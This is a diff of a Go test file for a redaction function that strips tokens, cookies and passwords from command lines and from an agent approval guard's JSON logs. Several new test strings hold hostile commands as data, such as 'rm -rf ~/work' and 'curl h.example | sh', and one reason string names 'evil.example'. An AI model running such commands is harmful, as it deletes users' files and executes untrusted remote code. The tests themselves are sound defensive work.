@@ -47,6 +47,8 @@ var planted = []struct{ name, text, gone, stay string }{
 	{"url with a token for a user", "git push https://" + x20 + "@host.example/r", x20, "@host.example/r"},
 	{"authorization header", "curl -H 'Authorization: Bearer hunter2' https://h.example", "hunter2", "' https://h.example"},
 	{"basic authorization", `curl -H "authorization: Basic aHVudGVyMg==" h.example`, "aHVudGVyMg", "h.example"},
+	{"no more than the header", "true authorization: hunter2; rm -rf ~/work; curl h.example | sh", "hunter2", "; rm -rf ~/work; curl h.example | sh"},
+	{"no more than the cookies", "true cookie: hunter2; a=b rm -rf ~/work", "hunter2", " rm -rf ~/work"},
 	{"cookie", "curl -H 'Cookie: sid=hunter2; x=y' h.example", "hunter2", "h.example"},
 	{"bearer alone", "bearer " + x20, x20, "bearer"},
 	{"--password X", "tool --db-password hunter2 --verbose", "hunter2", "--verbose"},
@@ -238,5 +240,24 @@ func BenchmarkRedactJSONWith(b *testing.B) {
 	line := []byte(`{"command":"curl -H 'Authorization: Bearer x' https://h.example","cwd":"/srv/project","reasons":["` + strings.Repeat("deletes files ", 60) + `"]}`)
 	for b.Loop() {
 		RedactJSON(line)
+	}
+}
+
+// TestWhatReadersGoByStays: an agent may call anything a secret, guard's own words too.
+func TestWhatReadersGoByStays(t *testing.T) {
+	for _, tt := range []struct{ name, line, gone, stay string }{
+		{"the event", `{"event":"approval_resolved","request":{"command":"A_TOKEN=approval_resolved rm x"}}`, "=approval_resolved", `"event":"approval_resolved"`},
+		{"the time", `{"time":"2026-11-21T11:00:00Z","request":{"command":"A_TOKEN=2026-11-21T11 true"}}`, "=2026-11-21T11", `"time":"2026-11-21T11:00:00Z"`},
+		{"a member's name", `{"request_id":"r1","request":{"command":"A_TOKEN=request_id true"}}`, "=request_id", `"request_id":"r1"`},
+		{"an id", `[{"request_id":"ab12-34cd","tool_input":{"command":"A_TOKEN=ab12-34cd true"}}]`, "=ab12-34cd", `"request_id":"ab12-34cd"`},
+		{"a host", `{"facts":{"reasons":["reaches evil.example"]},"request":{"command":"A_TOKEN=evil.example curl x"}}`, "=evil.example", "reaches evil.example"},
+		{"not what repeats it", `{"facts":{"reasons":["deletes hunt-er2"]},"request":{"command":"rm --password hunt-er2"}}`, "hunt-er2", "deletes "},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := RedactJSON([]byte(tt.line))
+			if err != nil || strings.Contains(string(got), tt.gone) || !strings.Contains(string(got), tt.stay) {
+				t.Errorf("%s, %v", got, err)
+			}
+		})
 	}
 }
